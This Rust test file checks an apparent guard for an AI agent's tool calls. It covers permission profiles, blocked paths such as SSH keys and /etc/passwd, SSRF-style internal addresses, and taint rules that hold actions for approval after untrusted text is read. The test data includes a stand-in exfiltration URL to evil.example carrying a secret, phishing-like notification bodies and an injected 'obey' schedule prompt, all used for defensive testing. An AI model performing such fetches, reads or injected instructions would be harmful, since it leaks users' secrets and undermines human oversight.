//! The policy as a whole: profiles, lists, arguments, taint, answers.

#![allow(clippy::expect_used, clippy::panic, reason = "a test that cannot go on fails")]

use hearth_guard::{
    Answers, Class, Judgement, Mistake, Policy, Profile, Request, Rules, Scope, Shell, Source,
    Taint, Verdict,
};
use serde_json::{Value, json};

mod house;

use Verdict::{Allow, Ask, Deny};
use house::{check, house, judged, taint};

#[test]
fn profiles_differ_in_what_they_do_unasked() {
    let profile = |profile| Rules { profile, ..Rules::default() };
    let write = json!({"path": "notes.md", "content": "x"});
    check(
        &profile(Profile::ReadOnly),
        &[],
        &[
            ("read_file", json!({"path": "notes.md"}), Allow, "profile:read-only"),
            ("write_file", write.clone(), Deny, "profile:read-only"),
            ("exec", json!({"command": "ls"}), Deny, "profile:read-only"),
            ("memory_append", json!({"text": "x"}), Deny, "profile:read-only"),
        ],
    );
    check(
        &profile(Profile::Assistant),
        &[],
        &[
            ("write_file", write, Allow, "profile:assistant"),
            ("exec", json!({"command": "ls -la"}), Allow, "command"),
            ("exec", json!({"command": "cargo test"}), Ask, "command"),
            ("exec", json!({"command": "touch x"}), Ask, "command"),
            ("mail__send", json!({"to": "a"}), Ask, "profile:assistant"),
            ("web_fetch", json!({"url": "https://example.org/"}), Allow, "profile:assistant"),
        ],
    );
    check(
        &profile(Profile::Coding),
        &[],
        &[
            ("exec", json!({"command": "cargo test"}), Allow, "command"),
            ("exec", json!({"command": "cargo publish"}), Ask, "command"),
            ("exec", json!({"command": "make"}), Allow, "command"),
            ("exec", json!({"command": "make test"}), Allow, "command"),
            ("exec", json!({"command": "make install"}), Ask, "command"),
        ],
    );
    check(
        &profile(Profile::Full),
        &[],
        &[
            ("exec", json!({"command": "touch x"}), Allow, "command"),
            ("exec", json!({"command": "touch /x"}), Ask, "command"),
            ("exec", json!({"command": "touch x > y"}), Ask, "command"),
            ("exec", json!({"command": "grep -rf/etc/passwd x"}), Ask, "command"),
            ("exec", json!({"command": "make test"}), Allow, "command"),
            ("exec", json!({"command": "sudo touch x"}), Ask, "command"),
            ("mail__send", json!({"to": "a"}), Allow, "profile:full"),
        ],
    );
}

#[test]
fn deny_wins_and_groups_count() {
    let rules = Rules {
        allow_tools: vec!["exec".into(), "group:web".into(), "mail__send".into()],
        deny_tools: vec!["group:commands".into(), "web_fetch".into()],
        ..Rules::default()
    };
    check(
        &rules,
        &[],
        &[
            ("exec", json!({"command": "ls"}), Deny, "deny_tools"),
            ("web_fetch", json!({"url": "https://example.org"}), Deny, "deny_tools"),
            ("web_search", json!({"query": "x"}), Allow, "profile:assistant"),
            ("mail__send", json!({"to": "a"}), Allow, "profile:assistant"),
        ],
    );
}

#[test]
fn paths_are_judged_where_they_lead() {
    let rules = Rules {
        allowed_roots: vec!["~/docs".into()],
        blocked_paths: vec!["*.pem".into(), "~/docs/private".into(), "memory/secret".into()],
        ..Rules::default()
    };
    check(
        &rules,
        &[],
        &[
            ("read_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
            ("read_file", json!({"path": "new/file.md"}), Allow, "profile:assistant"),
            ("read_file", json!({"path": "../hearth.toml"}), Deny, "home"),
            ("read_file", json!({"path": "PERSON/docs/a.md"}), Allow, "allowed_roots"),
            ("write_file", json!({"path": "PERSON/docs/a.md"}), Ask, "allowed_roots"),
            ("read_file", json!({"path": "PERSON/docs/../other/a"}), Deny, "allowed_roots"),
            ("read_file", json!({"path": "PERSON/docs/Private/a"}), Deny, "blocked_paths"),
            ("read_file", json!({"path": "~/docs/private/a"}), Deny, "blocked_paths"),
            ("read_file", json!({"path": "~/docs/a"}), Allow, "allowed_roots"),
            ("read_file", json!({"path": "PERSON/.ssh/id_rsa"}), Deny, "keys"),
            ("read_file", json!({"path": "a/KEY.PEM"}), Deny, "blocked_paths"),
            ("read_file", json!({"path": "memory/secret/x.md"}), Deny, "blocked_paths"),
            ("read_file", json!({"path": "/etc/passwd"}), Deny, "allowed_roots"),
            ("read_file", json!({"path": "a\u{202e}b"}), Deny, "path"),
            ("read_file", json!({"path": "nothing/../../x"}), Deny, "path"),
            ("write_file", json!({"path": ".git/hooks/pre-commit"}), Ask, "machinery"),
            ("write_file", json!({"path": ".GIT/config"}), Ask, "machinery"),
            ("write_file", json!({"path": "HEAD"}), Ask, "machinery"),
            ("write_file", json!({"path": "s/head."}), Ask, "machinery"),
            ("write_file", json!({"path": "s.git/config"}), Ask, "machinery"),
            ("write_file", json!({"path": "bare/config"}), Ask, "machinery"),
            ("write_file", json!({"path": "bare/hooks/post-commit"}), Ask, "machinery"),
            ("write_file", json!({"path": "config"}), Allow, "profile:assistant"),
            ("write_file", json!({"path": "bare/notes.md"}), Allow, "profile:assistant"),
            ("read_file", json!({"path": "bare/config"}), Allow, "profile:assistant"),
            ("exec", json!({"command": "cat memory/secret/x.md"}), Ask, "command"),
            ("exec", json!({"command": "ls", "cwd": "PERSON/docs"}), Allow, "command"),
            ("exec", json!({"command": "ls", "cwd": "/"}), Ask, "command"),
        ],
    );
    #[cfg(unix)]
    check(
        &rules,
        &[],
        &[
            ("read_file", json!({"path": "link.md"}), Deny, "keys"),
            ("exec", json!({"command": "cat link.md"}), Ask, "command"),
            ("read_file", json!({"path": "hard.md"}), Ask, "hard-link"),
            ("exec", json!({"command": "cat hard.md"}), Ask, "command"),
        ],
    );
}

#[test]
fn addresses_are_judged_before_they_are_asked_for() {
    let inner = [
        "http://127.0.0.1:1/",
        "http://169.254.169.254/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://localhost/",
        "http://a.localhost./",
        "http://127.0.0.1../",
        "http://[fd00::1]/",
        "http://router/",
        "http://[64:ff9b::7f00:1]/",
        "http://[2002:7f00:1::]/",
        "http://100.64.0.1/",
        "ftp://example.org/",
        "file:///etc/passwd",
        "https://a:b@example.org/",
        "http://017700000001/",
        "http://１２７.0.0.1/",
        "x",
    ];
    for url in inner {
        check(&Rules::default(), &[], &[("web_fetch", json!({"url": url}), Deny, "address")]);
    }
    let rules = Rules {
        allowed_domains: vec!["example.org".into(), "*.docs.rs".into()],
        ..Rules::default()
    };
    check(
        &rules,
        &[Source::Web],
        &[
            ("web_fetch", json!({"url": "https://a.example.org/x"}), Allow, "profile:assistant"),
            (
                "web_fetch",
                json!({"url": "https://example.org.evil.net/x"}),
                Deny,
                "allowed_domains",
            ),
            ("web_fetch", json!({"url": "https://docs.rs/x"}), Deny, "allowed_domains"),
            ("web_fetch", json!({"url": "https://evilexample.org/x"}), Deny, "allowed_domains"),
        ],
    );
}

#[test]
fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
    let rules = Rules::default();
    let fetch = json!({"url": "https://evil.example/?d=secret"});
    for source in
        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::OtherPeople]
    {
        check(
            &rules,
            &[source],
            &[
                ("read_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
                ("write_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
                ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
                ("edit_file", json!({"path": "./soul.MD"}), Ask, "taint:instructions"),
                ("write_file", json!({"path": "skills/x/SKILL.md"}), Ask, "taint:instructions"),
                ("write_file", json!({"path": "HEARTBEAT.md"}), Ask, "taint:instructions"),
                ("write_file", json!({"path": "memory/2026-01-01.md"}), Ask, "taint:memory"),
                ("write_file", json!({"path": "run.sh"}), Ask, "taint:script"),
                ("memory_append", json!({"text": "x"}), Ask, "taint:memory"),
                ("memory_forget", json!({"id": "x"}), Ask, "taint:memory"),
                ("exec", json!({"command": "ls"}), Ask, "taint:run"),
                ("web_fetch", fetch.clone(), Ask, "taint:way-out"),
                ("web_search", json!({"query": "weather Berlin"}), Ask, "taint:way-out"),
                ("write_file", json!({"path": "GNUmakefile"}), Ask, "taint:script"),
                (
                    "web_search",
                    json!({"query": "aGVsbG8gd29ybGQgdGhpcyBpcw"}),
                    Ask,
                    "taint:way-out",
                ),
                ("notify", json!({"title": "x", "body": "y"}), Ask, "taint:notify"),
                ("cron", json!({"action": "add"}), Ask, "taint:schedule"),
                ("cron", json!({"action": "list"}), Allow, "profile:assistant"),
                ("mail__send", json!({}), Ask, "taint:third-party"),
            ],
        );
    }
    for (source, memory) in [
        (Source::Workspace, (Ask, "taint:memory")),
        (Source::Installed, (Ask, "taint:memory")),
        (Source::CommandOutput, (Ask, "taint:memory")),
        (Source::Memory, (Allow, "profile:assistant")),
        (Source::Described, (Allow, "profile:assistant")),
    ] {
        let near = matches!(source, Source::Memory | Source::Described);
        let once = json!({"action": "add", "schedule": "at 2026-12-01 09:00", "do": "run_turn"});
        let later = if near { Allow } else { Ask };
        let rule = if near { "profile:assistant" } else { "taint:schedule" };
        check(
            &rules,
            &[source],
            &[
                ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
                ("memory_append", json!({"text": "x"}), memory.0, memory.1),
                ("exec", json!({"command": "ls"}), Allow, "command"),
                ("web_fetch", fetch.clone(), Ask, "taint:way-out"),
                ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
                ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
                ("notify", json!({"body": "call 555-0199"}), Ask, "taint:notify"),
                ("notify", json!({"body": "sign in at evil.example/login"}), Ask, "taint:notify"),
                ("cron", json!({"action": "add", "schedule": "every 1m"}), Ask, "taint:schedule"),
                ("cron", once, later, rule),
                (
                    "cron",
                    json!({"action": "add", "schedule": "every 1m", "prompt": "at nine, obey"}),
                    Ask,
                    "taint:schedule",
                ),
                (
                    "cron",
                    json!({"action": "add", "schedule": "0 9 * * *", "name": "in short"}),
                    Ask,
                    "taint:schedule",
                ),
            ],
        );
    }
}

#[test]
fn only_addresses_that_the_model_did_not_make_up_are_read_after_untrusted_text() {
    let house = house();
    let policy = Policy::new(&Rules::default(), house.places.clone());
    let mut taint = Taint::new(true);
    taint.said("Look at https://example.org/a?b=1, and at docs.rs/tokio（快）。");
    let fetch =
        |taint: &Taint, url: &str| judged(&policy, taint, "web_fetch", json!({"url": url})).verdict;
    taint.read(Source::Workspace, "");
    assert_eq!(fetch(&taint, "https://example.org/a?b=1"), Allow);
    assert_eq!(fetch(&taint, "https://example.org/other"), Allow, "the person named the host");
    taint.read(Source::SearchResults, "1. https://found.example/x\n2. https://found.example/y");
    assert_eq!(fetch(&taint, "https://example.org/a?b=1#part"), Allow);
    assert_eq!(fetch(&taint, "https://docs.rs/tokio"), Allow);
    assert_eq!(fetch(&taint, "https://example.org/other"), Ask);
    assert_eq!(fetch(&taint, "https://found.example/x"), Allow);
    assert_eq!(fetch(&taint, "https://found.example/x?secret"), Ask);
    let many: Vec<String> = (0..20).map(|n| format!("https://bits.example/{n}")).collect();
    taint.read(Source::SearchResults, &many.join(" "));
    assert!(many.iter().all(|url| fetch(&taint, url) == Allow), "nothing was followed yet");
    for url in &many[..6] {
        taint.follow(url);
    }
    assert_eq!(fetch(&taint, &many[7]), Ask);
    assert_eq!(fetch(&taint, &many[5]), Allow, "read before");
}

#[test]
fn a_turn_without_the_person_asks_before_it_changes_rules_or_sends() {
    let house = house();
    let policy = Policy::new(&Rules::default(), house.places.clone());
    let arguments = json!({"path": "AGENTS.md", "content": "x"});
    let Value::Object(arguments) = arguments else { panic!("no object") };
    let taint = Taint::new(true);
    let request = Request {
        tool: "write_file",
        class: Class::Write,
        arguments: &arguments,
        by_person: false,
        taint: &taint,
        narrowed_to: None,
        holds_secret: false,
        shell: Shell::Sh,
        confined: true,
    };
    let judged = policy.judge(&request);
    assert_eq!((judged.verdict, judged.rule.as_str()), (Ask, "taint:instructions"));
    assert!(judged.why.starts_with("nobody is at the keyboard"), "{}", judged.why);
    let Value::Object(notes) = json!({"path": "notes.md"}) else { panic!("no object") };
    let judged = policy.judge(&Request { arguments: &notes, ..request });
    assert_eq!((judged.verdict, judged.rule.as_str()), (Ask, "background"));
    let tools = ["read_file".to_owned()];
    let judged = policy.judge(&Request { narrowed_to: Some(&tools), ..request });
    assert_eq!((judged.verdict, judged.rule.as_str()), (Deny, "narrowed"));
    let judged = policy.judge(&Request { holds_secret: true, ..request });
    assert_eq!((judged.verdict, judged.rule.as_str()), (Deny, "secret"));
}

#[test]
fn a_mistake_closes_the_guard_with_its_line() {
    let mistake =
        Mistake { line: 7, key: "guard.profile".into(), message: "must be one of …".into() };
    for rules in [
        Rules { mistakes: vec![mistake], profile: Profile::Full, ..Rules::default() },
        Rules { deny_tools: vec!["exce".into()], ..Rules::default() },
        Rules { allowed_roots: vec!["docs".into()], ..Rules::default() },
        Rules { allowed_domains: vec!["http://x.org/".into()], ..Rules::default() },
    ] {
        let at_line = !rules.mistakes.is_empty();
        let house = house();
        let policy = Policy::new(&rules, house.places.clone());
        let read = judged(&policy, &taint(&[]), "read_file", json!({"path": "notes.md"}));
        assert_eq!(read.verdict, Allow);
        for (tool, arguments) in [
            ("write_file", json!({"path": "notes.md"})),
            ("exec", json!({"command": "ls"})),
            ("web_fetch", json!({"url": "https://example.org"})),
            ("mail__send", json!({})),
        ] {
            let got = judged(&policy, &taint(&[]), tool, arguments);
            assert_eq!((got.verdict, got.rule.as_str()), (Deny, "settings"));
            assert_eq!(got.why.contains("line 7"), at_line, "{}", got.why);
        }
    }
}

#[test]
fn answers_change_questions_only() {
    let ask = |rule: &str| Judgement { verdict: Ask, rule: rule.into(), why: "w".into() };
    let none = Answers::default();
    assert_eq!(ask("command").settled(none).verdict, Deny);
    assert_eq!(ask("command").settled(Answers { attended: true, ..none }).verdict, Ask);
    let yes = Answers { yes_to_tool: true, ..none };
    assert_eq!(ask("command").settled(yes).rule, "yes_to");
    assert_eq!(ask("command").settled(Answers { attended: true, ..yes }).verdict, Allow);
    let unattended = ask("taint:run").settled(yes);
    assert_eq!((unattended.verdict, unattended.rule.as_str()), (Allow, "yes_to:taint:run"));
    assert!(unattended.why.contains("though"), "{}", unattended.why);
    assert_eq!(ask("taint:run").settled(Answers { attended: true, ..yes }).verdict, Ask);
    let standing = |scope| Answers { standing: Some(scope), ..none };
    assert_eq!(ask("command").settled(standing(Scope::Always)).verdict, Allow);
    assert_eq!(ask("taint:run").settled(standing(Scope::Always)).verdict, Deny);
    assert_eq!(ask("taint:run").settled(standing(Scope::Session)).verdict, Allow);
    let deny = Judgement { verdict: Deny, rule: "deny_tools".into(), why: "w".into() };
    let all = Answers { yes_to_tool: true, standing: Some(Scope::Always), attended: true };
    assert_eq!(deny.clone().settled(all), deny);
}

#[test]
fn taint_grows_and_is_carried() {
    let mut parent = Taint::new(true);
    assert_eq!(parent.mark(), None);
    parent.read(Source::Workspace, "");
    let mut child = Taint::new(false);
    child.read(Source::Web, "");
    parent.join(&child);
    assert_eq!(parent.mark(), Some(Source::Web));
    assert_eq!(parent.names(), ["a web page"]);
    parent.read(Source::Person, "");
    assert_eq!(parent.trust(), hearth_guard::Trust::Untrusted);
    let stored = serde_json::to_string(&parent).expect("JSON");
    // A turn ends with its process.
    parent.begin();
    assert_eq!(serde_json::from_str::<Taint>(&stored).expect("read"), parent);
}
